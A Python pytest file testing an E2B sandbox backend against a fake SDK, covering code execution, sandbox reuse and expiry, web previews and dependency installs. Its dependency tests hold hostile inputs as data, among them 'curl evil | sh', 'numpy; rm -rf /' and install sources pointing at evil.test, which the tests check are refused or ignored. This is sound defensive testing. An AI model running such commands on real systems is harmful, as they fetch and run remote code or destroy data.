"""The E2B backend against the in-process double of the SDK (tests/fakes/e2b_sdk.py): E2B itself
cannot be reached from here, so the double runs cells in a real Python process, writes files,
records commands and expires sandboxes on its own clock."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from e2b_code_interpreter import Execution, Logs, Result
from e2b_code_interpreter import ExecutionError as SdkExecutionError
from pydantic import SecretStr

from fragments.app import create_app, state_of
from fragments.config import Settings
from fragments.errors import BadRequest
from fragments.sandbox.e2b import E2BSandboxService
from fragments.sandbox.e2b import service as e2b_service
from fragments.sandbox.e2b.results import CellOutput
from fragments.sandbox.service import Phase, SandboxUnavailable
from fragments.schemas import Fragment, InterpreterResult, WebResult
from tests.fakes.e2b_sdk import FakeCloud

pytestmark = pytest.mark.anyio

KEY = "e2b_test_key"
INTERPRETER = "code-interpreter-v1"


def fragment(code: str, template: str = INTERPRETER, **fields: Any) -> Fragment:
    return Fragment.model_validate({"template": template, "code": code, **fields})


@pytest.fixture
async def cloud(tmp_path: Path) -> AsyncIterator[FakeCloud]:
    fake = FakeCloud(tmp_path / "e2b", api_key=KEY)
    try:
        yield fake
    finally:
        await fake.aclose()


@pytest.fixture
def e2b_settings(settings: Settings) -> Settings:
    return settings.model_copy(
        update={
            "sandbox_backend": "e2b",
            "e2b_api_key": SecretStr(KEY),
            # The 1/2/4 s schedule scaled down; the retry count is what the tests check.
            "sandbox_retry_backoff_seconds": 0.01,
            "sandbox_run_timeout_seconds": 20.0,
        }
    )


@pytest.fixture
async def service(e2b_settings: Settings, cloud: FakeCloud) -> AsyncIterator[E2BSandboxService]:
    svc = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    try:
        yield svc
    finally:
        await svc.aclose()


async def run(svc: E2BSandboxService, frag: Fragment, **kwargs: Any) -> InterpreterResult:
    result = await svc.execute(frag, owner=kwargs.pop("owner", "user:conv"), **kwargs)
    assert isinstance(result, InterpreterResult)
    return result


# ---- interpreter -----------------------------------------------------------------------------


async def test_a_cell_returns_its_stdout_and_stderr(service: E2BSandboxService) -> None:
    code = "import sys\nprint('hello')\nprint('oops', file=sys.stderr)"
    result = await run(service, fragment(code))
    assert result.template == INTERPRETER
    assert "".join(result.stdout) == "hello\n"
    assert "".join(result.stderr) == "oops\n"
    assert result.error is None
    assert result.results == []


async def test_an_error_comes_back_with_name_value_and_traceback(
    service: E2BSandboxService,
) -> None:
    result = await run(service, fragment("print('before')\n1 / 0"))
    assert "".join(result.stdout) == "before\n"
    assert result.error is not None
    assert result.error.name == "ZeroDivisionError"
    assert result.error.value == "division by zero"
    assert "1 / 0" in result.error.traceback or "<cell>" in result.error.traceback
    assert "Traceback" in result.error.traceback


async def test_rich_results_keep_their_formats_in_order(service: E2BSandboxService) -> None:
    code = (
        "class Chart:\n"
        "    def _repr_png_(self):\n"
        "        return b'\\x89PNG-bytes'\n"
        "class Table:\n"
        "    def _repr_html_(self):\n"
        "        return '<table><tr><td>1</td></tr></table>'\n"
        "    def _repr_json_(self):\n"
        "        return {'rows': [1]}\n"
        "display(Chart())\n"
        "Table()"
    )
    result = await run(service, fragment(code))
    assert result.error is None
    chart, table = result.results
    assert chart.png == "iVBORy1ieXRlcw=="  # base64 of the bytes, no data: prefix
    assert chart.is_main_result is False
    assert chart.text is not None
    assert "Chart" in chart.text
    assert table.html == "<table><tr><td>1</td></tr></table>"
    assert table.json_ == {"rows": [1]}
    assert table.is_main_result is True


async def test_a_cell_that_dies_midway_keeps_what_it_printed(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    code = "import os, sys\nprint('partial')\nsys.stdout.flush()\nos._exit(3)"
    result = await run(service, fragment(code))
    assert "".join(result.stdout) == "partial\n"
    assert result.error is not None
    assert result.error.name == "SandboxError"
    # The dead sandbox is replaced on the next run.
    again = await run(service, fragment("print('fresh')"))
    assert again.sandbox_id != result.sandbox_id
    assert cloud.creates == 2


async def test_a_cell_over_the_time_limit_is_a_timeout_error(
    e2b_settings: Settings, cloud: FakeCloud
) -> None:
    settings = e2b_settings.model_copy(update={"sandbox_run_timeout_seconds": 0.5})
    svc = E2BSandboxService(settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    try:
        result = await run(svc, fragment("print('start', flush=True)\nimport time\ntime.sleep(30)"))
        assert not cloud.sandboxes[result.sandbox_id].alive
        # A kernel that may still be busy is not reused: the next run gets a new sandbox.
        after = await run(svc, fragment("print('next')"))
    finally:
        await svc.aclose()
    assert result.error is not None
    assert result.error.name == "TimeoutError"
    assert "0.5 s" in result.error.value
    assert "".join(result.stdout) == "start\n"
    assert after.sandbox_id != result.sandbox_id
    assert "".join(after.stdout) == "next\n"
    assert cloud.creates == 2


async def test_phases_are_reported(service: E2BSandboxService) -> None:
    seen: list[Phase] = []

    async def on_phase(phase: Phase) -> None:
        seen.append(phase)

    await service.execute(fragment("1"), owner="user:conv", on_phase=on_phase)
    assert seen == ["acquiring", "starting", "running"]
    seen.clear()
    frag = fragment("1", additional_dependencies=["tabulate"])
    await service.execute(frag, owner="user:conv", on_phase=on_phase)
    assert seen == ["acquiring", "installing", "running"]


async def test_the_sdks_own_execution_maps_like_a_local_kernel_result() -> None:
    """E2B's tracebacks carry ANSI colours and its Results formats we do not carry (latex,
    chart data): the mapping strips the one and drops the other, as the local collector does."""
    execution = Execution(
        results=[
            Result(png="iVBORw0KGgo=\n", text="<Figure size 640x480>", is_main_result=False),
            Result(latex="$x^2$"),
            Result(text="3", json={"a": 1}, is_main_result=True, extra={"custom": 1}),
        ],
        logs=Logs(stdout=["a\n", "b\n"], stderr=["warn\n"]),
        error=SdkExecutionError("ValueError", "bad", "\x1b[0;31mValueError\x1b[0m: bad\n  line 1"),
    )
    output = CellOutput(cap=1024)
    output.add_execution(execution, streamed=False)
    result = output.result("sbx", INTERPRETER)
    assert result.stdout == ["a\n", "b\n"]
    assert result.stderr == ["warn\n"]
    assert [r.model_dump(by_alias=True, exclude_none=True) for r in result.results] == [
        {"png": "iVBORw0KGgo=", "text": "<Figure size 640x480>", "is_main_result": False},
        {"text": "3", "json": {"a": 1}, "is_main_result": True},
    ]
    assert result.error is not None
    assert result.error.name == "ValueError"
    assert result.error.traceback == "ValueError: bad\n  line 1"


async def test_output_over_the_cap_is_cut_with_a_notice() -> None:
    output = CellOutput(cap=10)
    output.add_execution(Execution(logs=Logs(stdout=["x" * 25])), streamed=False)
    result = output.result("sbx", INTERPRETER)
    assert result.stdout[0] == "x" * 10
    assert "output truncated" in result.stdout[-1]


# ---- sandboxes: creation, reuse, lifetime ---------------------------------------------------


async def test_a_sandbox_is_created_from_our_template_with_metadata_and_lifetime(
    service: E2BSandboxService, cloud: FakeCloud, e2b_settings: Settings
) -> None:
    result = await run(service, fragment("1"), owner="alice:c1")
    state = cloud.sandboxes[result.sandbox_id]
    assert state.template == INTERPRETER
    assert state.metadata == {"template": INTERPRETER, "owner": "alice:c1"}
    assert state.timeouts[0] == 600
    assert cloud.domains == [e2b_settings.e2b_domain]


async def test_a_conversation_keeps_its_sandbox_and_its_variables(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    first = await run(service, fragment("x = 41"))
    second = await run(service, fragment("x + 1"))
    assert second.sandbox_id == first.sandbox_id
    assert second.results[0].text == "42"
    assert cloud.creates == 1
    # Every use starts the sandbox's lifetime again.
    assert cloud.sandboxes[first.sandbox_id].timeouts == [600, 600]
    other = await run(service, fragment("'x' in globals()"), owner="bob:c2")
    assert other.sandbox_id != first.sandbox_id
    assert other.results[0].text == "False"


async def test_a_sandbox_e2b_killed_is_replaced(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    first = await run(service, fragment("x = 1"))
    cloud.advance(601)  # past its 10 minute lifetime: E2B has killed it
    second = await run(service, fragment("print('x' in globals())"))
    assert second.sandbox_id != first.sandbox_id
    assert "".join(second.stdout) == "False\n"
    assert cloud.creates == 2


async def test_after_a_restart_the_conversation_reconnects_to_its_sandbox(
    e2b_settings: Settings, cloud: FakeCloud
) -> None:
    before = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    first = await run(before, fragment("x = 'kept'"))
    # The app process goes away without killing anything (a crash, a deploy).
    after = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    try:
        second = await run(after, fragment("x"))
    finally:
        await after.aclose()
    assert second.sandbox_id == first.sandbox_id
    assert second.results[0].text == "'kept'"
    assert cloud.creates == 1


async def test_a_reconnected_sandbox_keeps_its_extended_lifetime(
    e2b_settings: Settings, cloud: FakeCloud
) -> None:
    before = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    first = await run(before, fragment("1"))
    assert await before.extend(first.sandbox_id, 7200) == 7200
    after = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    try:
        second = await run(after, fragment("2"))
    finally:
        await after.aclose()
    assert second.sandbox_id == first.sandbox_id
    # The run set the timeout again, to what was left of the 2 hours, not to 10 minutes.
    assert cloud.sandboxes[first.sandbox_id].timeouts[-1] > 7000


async def test_restart_and_a_template_change_replace_the_sandbox(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    first = await run(service, fragment("x = 1"))
    second = await run(service, fragment("print('x' in globals())"), restart=True)
    assert second.sandbox_id != first.sandbox_id
    assert "".join(second.stdout) == "False\n"
    assert not cloud.sandboxes[first.sandbox_id].alive
    web = await service.execute(
        fragment("import streamlit", "streamlit-developer"), owner="user:conv"
    )
    assert isinstance(web, WebResult)
    assert not cloud.sandboxes[second.sandbox_id].alive
    assert [s.sandbox_id for s in cloud.live()] == [web.sandbox_id]


async def test_a_run_without_owner_gets_a_sandbox_killed_after_it(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    result = await run(service, fragment("print(1)"), owner=None)
    assert "".join(result.stdout) == "1\n"
    assert cloud.live() == []
    assert service.sandboxes == []


async def test_two_requests_of_one_conversation_share_one_new_sandbox(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    first, second = await asyncio.gather(run(service, fragment("1")), run(service, fragment("2")))
    assert first.sandbox_id == second.sandbox_id
    assert cloud.creates == 1


async def test_after_a_restart_extend_and_kill_reach_the_sandbox_by_id(
    e2b_settings: Settings, cloud: FakeCloud
) -> None:
    before = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    web = await before.execute(fragment("x", "streamlit-developer"), owner="u:c")
    assert isinstance(web, WebResult)
    assert web.sandbox_id is not None
    after = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    assert await after.extend(web.sandbox_id, 7200) == 7200
    assert cloud.sandboxes[web.sandbox_id].timeouts[-1] == 7200
    assert await after.kill(web.sandbox_id) is True
    assert not cloud.sandboxes[web.sandbox_id].alive
    assert await after.kill(web.sandbox_id) is False
    assert await after.extend(web.sandbox_id, 60) is None


async def test_extend_sets_the_timeout_capped_at_24_hours(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    result = await run(service, fragment("1"))
    assert await service.extend(result.sandbox_id, 3600) == 3600
    assert await service.extend(result.sandbox_id, 3 * 86400) == 86400
    assert cloud.sandboxes[result.sandbox_id].timeouts[-2:] == [3600, 86400]
    # The lifetime granted sticks: the next run sets it again, not the 10 minute default.
    await run(service, fragment("2"))
    assert cloud.sandboxes[result.sandbox_id].timeouts[-1] == 86400
    cloud.advance(86400 + 1)
    assert await service.extend(result.sandbox_id, 60) is None
    assert await service.extend("unknown", 60) is None


async def test_kill(service: E2BSandboxService, cloud: FakeCloud) -> None:
    result = await run(service, fragment("1"))
    assert await service.kill(result.sandbox_id) is True
    assert not cloud.sandboxes[result.sandbox_id].alive
    assert await service.kill(result.sandbox_id) is False
    assert service.sandbox_for("user:conv") is None


async def test_aclose_kills_every_sandbox(e2b_settings: Settings, cloud: FakeCloud) -> None:
    svc = E2BSandboxService(e2b_settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    await run(svc, fragment("1"), owner="a:1")
    await run(svc, fragment("1"), owner="b:2")
    assert len(cloud.live()) == 2
    await svc.aclose()
    assert cloud.live() == []
    with pytest.raises(SandboxUnavailable):
        await run(svc, fragment("1"))


# ---- web templates ---------------------------------------------------------------------------


async def test_a_web_template_returns_the_e2b_host_url_and_writes_its_files(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    code = "export default function Home() { return <h1>Hi</h1> }"
    result = await service.execute(
        fragment(code, "nextjs-developer", file_path="pages/index.tsx"), owner="user:web"
    )
    assert isinstance(result, WebResult)
    assert result.error is None
    assert result.sandbox_id is not None
    assert result.url == f"https://3000-{result.sandbox_id}.e2b.app"
    home = cloud.sandboxes[result.sandbox_id].home
    assert (home / "pages" / "index.tsx").read_text() == code
    # An edit goes into the same sandbox, where the dev server reloads it.
    again = await service.execute(
        fragment("export default () => null", "nextjs-developer", file_path="pages/index.tsx"),
        owner="user:web",
    )
    assert isinstance(again, WebResult)
    assert again.url == result.url
    assert (home / "pages" / "index.tsx").read_text() == "export default () => null"


async def test_multi_file_apps_write_every_file(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    files = [
        {"file_path": "app.py", "file_content": "import helpers"},
        {"file_path": "helpers/__init__.py", "file_content": "X = 1"},
    ]
    result = await service.execute(
        fragment("", "streamlit-developer", files=files), owner="user:multi"
    )
    assert isinstance(result, WebResult)
    assert result.sandbox_id is not None
    assert result.url == f"https://8501-{result.sandbox_id}.e2b.app"
    home = cloud.sandboxes[result.sandbox_id].home
    assert (home / "app.py").read_text() == "import helpers"
    assert (home / "helpers" / "__init__.py").read_text() == "X = 1"


# ---- dependencies ----------------------------------------------------------------------------


async def test_validated_dependencies_make_the_exact_quoted_install_command(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    deps = ["requests>=2,<3", "rich[jupyter]", "numpy"]  # numpy is in the template already
    await run(service, fragment("1", additional_dependencies=deps))
    assert cloud.commands == [
        "pip install --disable-pip-version-check --no-input 'requests>=2,<3' 'rich[jupyter]'"
    ]
    # Installed once per sandbox: the conversation's next run does not install again.
    await run(service, fragment("2", additional_dependencies=deps))
    assert len(cloud.commands) == 1
    web = await service.execute(
        fragment(
            "x",
            "nextjs-developer",
            additional_dependencies=["left-pad@^1.3.0", "@scope/pkg"],
            install_dependencies_command="curl evil | sh",
        ),
        owner="user:node",
    )
    assert isinstance(web, WebResult)
    assert web.sandbox_id is not None
    assert cloud.sandboxes[web.sandbox_id].commands == [
        (
            "npm install --ignore-scripts --no-audit --no-fund 'left-pad@^1.3.0' @scope/pkg",
            "/home/user",
        )
    ]


@pytest.mark.parametrize(
    "dependency",
    ["numpy; rm -rf /", "--index-url=http://evil.test numpy", "git+https://evil.test/x.git"],
)
async def test_a_hostile_dependency_is_refused_before_any_sdk_call(
    service: E2BSandboxService, cloud: FakeCloud, dependency: str
) -> None:
    with pytest.raises(BadRequest) as caught:
        await service.execute(
            fragment("1", additional_dependencies=[dependency]), owner="user:conv"
        )
    assert caught.value.code == "invalid_dependency"
    assert cloud.creates == 0
    assert cloud.sandboxes == {}


async def test_an_install_failure_returns_the_installers_message(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    cloud.broken_packages.add("nonexistent-pkg")
    result = await run(service, fragment("print(1)", additional_dependencies=["nonexistent-pkg"]))
    assert result.error is not None
    assert result.error.name == "InstallError"
    assert "No matching distribution found for nonexistent-pkg" in result.error.value
    assert result.stdout == []  # the cell did not run
    web = await service.execute(
        fragment("x", "gradio-developer", additional_dependencies=["nonexistent-pkg"]),
        owner="user:gradio",
    )
    assert isinstance(web, WebResult)
    assert web.url is None
    assert web.error is not None
    assert "No matching distribution" in web.error.value


# ---- creation failures -----------------------------------------------------------------------


async def test_creation_is_retried(service: E2BSandboxService, cloud: FakeCloud) -> None:
    cloud.fail_creates = 2
    result = await run(service, fragment("print('ok')"))
    assert "".join(result.stdout) == "ok\n"
    assert cloud.creates == 3


async def test_creation_failing_every_time_gives_no_live_preview(
    service: E2BSandboxService, cloud: FakeCloud
) -> None:
    cloud.fail_creates = 100
    result = await service.execute(fragment("x", "vue-developer"), owner="user:vue")
    assert isinstance(result, WebResult)
    assert result.sandbox_id is None
    assert result.url is None
    assert result.error is not None
    assert result.error.name == "SandboxStartError"
    assert cloud.creates == 4  # the first attempt and 3 retries
    # The interpreter has no preview to go without: a 503, as with the local backend.
    with pytest.raises(SandboxUnavailable) as caught:
        await run(service, fragment("1"), owner="user:other")
    assert caught.value.headers == {"Retry-After": "5"}
    assert cloud.creates == 8


async def test_a_bad_key_is_not_retried(e2b_settings: Settings, cloud: FakeCloud) -> None:
    settings = e2b_settings.model_copy(update={"e2b_api_key": SecretStr("wrong")})
    svc = E2BSandboxService(settings, sdk=cloud.sdk)  # type: ignore[arg-type]
    result = await svc.execute(fragment("x", "streamlit-developer"), owner="user:s")
    assert isinstance(result, WebResult)
    assert result.error is not None
    assert "Invalid API key" in result.error.value
    assert cloud.creates == 0  # refused before a sandbox was counted


async def test_no_key_is_unavailable(settings: Settings, cloud: FakeCloud) -> None:
    svc = E2BSandboxService(
        settings.model_copy(update={"sandbox_backend": "e2b"}),
        sdk=cloud.sdk,  # type: ignore[arg-type]
    )
    with pytest.raises(SandboxUnavailable):
        await svc.check()
    with pytest.raises(SandboxUnavailable):
        await run(svc, fragment("1"))
    assert cloud.creates == 0


async def test_previews_are_not_proxied(service: E2BSandboxService) -> None:
    result = await service.execute(fragment("x", "streamlit-developer"), owner="user:p")
    assert isinstance(result, WebResult)
    assert result.sandbox_id is not None
    assert service.preview_socket(result.sandbox_id, 8501) is None
    await service.check()


# ---- through the app -------------------------------------------------------------------------


@pytest.fixture
async def client(
    e2b_settings: Settings, cloud: FakeCloud, monkeypatch: pytest.MonkeyPatch
) -> AsyncIterator[httpx.AsyncClient]:
    # The factory builds the E2B backend; the SDK it loads is the double.
    monkeypatch.setattr(e2b_service, "real_sdk", lambda: cloud.sdk)
    app = create_app(e2b_settings)
    async with app.router.lifespan_context(app):
        assert isinstance(state_of(app).sandboxes, E2BSandboxService)
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="http://test") as http:
            yield http


async def test_api_sandbox_runs_on_e2b(client: httpx.AsyncClient, cloud: FakeCloud) -> None:
    body = {"fragment": {"template": INTERPRETER, "code": "print('via api')\n{'a': 1}"}}
    response = await client.post("/api/sandbox", json=body)
    assert response.status_code == 200, response.text
    data = response.json()
    assert data["stdout"] == ["via api\n"]
    assert data["results"] == [{"text": "{'a': 1}", "is_main_result": True}]
    assert data["sandbox_id"] in cloud.sandboxes
    # Without a conversation the sandbox is not kept.
    assert cloud.live() == []
    csp = response.headers["content-security-policy"]
    assert "frame-src https://*.e2b.app;" in csp


async def test_api_sandbox_streams_phases_and_the_web_url(
    client: httpx.AsyncClient, cloud: FakeCloud
) -> None:
    body = {"fragment": {"template": "gradio-developer", "code": "import gradio as gr"}}
    response = await client.post("/api/sandbox", json=body, headers={"Accept": "text/event-stream"})
    assert response.status_code == 200
    events = []
    for block in response.text.replace("\r\n", "\n").split("\n\n"):
        lines = block.splitlines()
        name = next((ln[6:].strip() for ln in lines if ln.startswith("event:")), None)
        data = [ln[5:].strip() for ln in lines if ln.startswith("data:")]
        if name and data:
            events.append((name, json.loads("\n".join(data))))
    assert [e[1]["phase"] for e in events if e[0] == "phase"] == [
        "acquiring",
        "starting",
        "running",
    ]
    name, result = events[-1]
    assert name == "result"
    assert result["url"] == f"https://7860-{result['sandbox_id']}.e2b.app"


async def test_the_e2b_backend_without_a_key_fails_at_start_up(settings: Settings) -> None:
    app = create_app(settings.model_copy(update={"sandbox_backend": "e2b"}))
    with pytest.raises(RuntimeError, match="E2B_API_KEY"):
        async with app.router.lifespan_context(app):
            pass


# ---- the real SDK ----------------------------------------------------------------------------


async def test_the_real_sdk_accepts_the_calls_we_make(
    e2b_settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With E2B_DEBUG the real SDK skips E2B's API (create, connect, set_timeout and kill
    answer locally) and sends the sandbox's own requests to localhost ports where nothing
    listens: nothing leaves the machine, and every call the backend makes goes through the
    SDK's real signatures and error types."""
    monkeypatch.setenv("E2B_DEBUG", "true")
    svc = E2BSandboxService(e2b_settings)
    try:
        web = await svc.execute(fragment("import streamlit", "streamlit-developer"), owner="u:c")
        assert isinstance(web, WebResult)
        assert web.sandbox_id == "debug_sandbox_id"
        assert web.url is None
        assert web.error is not None
        assert web.error.name == "SandboxError"
        assert "could not be reached" in web.error.value
        assert await svc.extend("debug_sandbox_id", 3 * 86400) == 86400
        cell = await run(svc, fragment("print(1)"), owner=None)
        assert cell.error is not None
        assert cell.error.name == "SandboxError"
        assert "could not be reached" in cell.error.value
        assert cell.stdout == []
    finally:
        await svc.aclose()


async def test_data_files_are_written_for_the_cell(service: E2BSandboxService) -> None:
    data = (("sales.csv", b"city,sales\nParis,120\n"), ("raw.bin", bytes(range(256))))
    code = (
        "print(open('sales.csv').read().splitlines()[1]); print(len(open('raw.bin','rb').read()))"
    )
    result = await run(service, fragment(code), data_files=data)
    assert result.error is None, result.error
    assert "".join(result.stdout) == "Paris,120\n256\n"
